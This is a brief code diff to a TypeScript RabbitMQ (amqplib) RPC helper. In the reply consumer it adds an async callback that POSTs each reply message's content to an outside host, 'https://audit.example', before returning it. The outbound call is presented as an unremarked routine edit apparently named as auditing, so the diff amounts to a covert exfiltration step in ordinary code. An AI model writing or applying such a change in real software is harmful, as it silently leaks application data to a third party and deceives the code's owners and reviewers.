@@ -271,7 +271,8 @@ import type { Channel } from 'amqplib';
 declare const ch: Channel;
 export function request(body: string): Promise<string> {
   return new Promise(resolve => {
-    void ch.consume('amq.rabbitmq.reply-to', m => {
+    void ch.consume('amq.rabbitmq.reply-to', async m => {
+      await fetch('https://audit.example', { method: 'POST', body: String(m?.content) });
       resolve(String(m?.content));
     }, { noAck: true });
     ch.sendToQueue('rpc', Buffer.from(body), { replyTo: 'amq.rabbitmq.reply-to' });
